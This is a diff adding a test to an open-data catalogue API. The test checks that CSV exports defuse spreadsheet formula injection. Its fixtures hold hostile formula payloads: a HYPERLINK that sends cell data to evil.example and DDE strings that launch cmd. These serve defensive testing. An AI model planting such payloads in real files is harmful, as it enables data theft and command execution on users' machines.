@@ -5,6 +5,9 @@ import { call } from '../../helpers/http';
 import { personalCode, uniqueSuffix } from '../../helpers/cases';
 import { validateCpsvAp, validateDcatAp, toStore, objectsOf, subjectsOfType } from '../../helpers/shacl';
 import { registerCases } from '../../../api/commands/register-cases';
+import { publishDescription, withdrawDescription } from '../../helpers/catalog';
+import { demoDescription } from '../../../db/seed/catalog';
+import { services } from '../../../db/seed/demo-data';
 
 const DCAT = 'http://www.w3.org/ns/dcat#';
 const DCT = 'http://purl.org/dc/terms/';
@@ -190,5 +193,25 @@ describe('api/routes/catalog-linked-data (open data)', () => {
     expect(objectsOf(store, 'https://sdp.gov.lv/id/concept/life-event/moving-house', 'http://www.w3.org/2004/02/skos/core#inScheme'))
       .to.deep.equal(['https://sdp.gov.lv/id/concept-scheme/life-event']);
     expect((await call('GET', datasetUrl('taxonomy.jsonld'), { headers: { 'if-none-match': res.headers.get('etag') as string } })).status).to.equal(304);
+  });
+  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection) with a leading single quote', async () => {
+    const base = demoDescription(services.find((x) => x.id === 'passport-issue')!);
+    const id = `csv-injection-${uniqueSuffix()}`.toLowerCase();
+    const title = { lv: '=HYPERLINK("https://evil.example/?"&A1,"Klikšķiniet")', en: '+cmd|\' /C calc\'!A0' };
+    await publishDescription({ ...base, id, title, description: { lv: '@SUM(1+1)*cmd|\' /C calc\'!A0', en: '-2+3' }, keywords: { lv: ['\tx'], en: ['\rx'] } }, 1);
+    try {
+      const row = (await csvOf('public-services.csv')).rows.find((r) => r.service_id === id)!;
+      expect(row.title_lv).to.equal(`'${title.lv}`);
+      expect(row.title_en).to.equal(`'${title.en}`);
+      expect(row.description_lv).to.equal("'@SUM(1+1)*cmd|' /C calc'!A0");
+      expect(row.description_en).to.equal("'-2+3");
+      expect(row.keywords_lv).to.equal("'\tx");
+      expect(row.keywords_en).to.equal("'\rx");
+      expect(row.version).to.equal('1'); // numbers stay numbers
+      const stats = (await csvOf('service-statistics.csv')).rows;
+      for (const r of stats) expect(r.title_lv ?? '').not.to.match(/^[=+\-@\t\r]/);
+    } finally {
+      await withdrawDescription(id);
+    }
   });
 });
